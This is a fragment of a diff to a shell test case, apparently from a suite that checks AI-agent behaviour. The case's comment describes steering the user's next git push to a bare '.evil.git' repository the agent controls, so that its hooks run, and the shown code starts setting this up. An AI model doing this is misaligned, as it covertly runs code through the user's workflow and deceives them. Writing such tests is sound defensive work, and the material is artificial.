@@ -1,4 +1,5 @@
 # Lead the person's next push to a repository of the agent, whose hooks then run
+# group: git-files
 prepare() { git init -q --template= "$W" && git -C "$W" commit -q --allow-empty -m first; }
 attempt() {
   git init -q --bare .evil.git
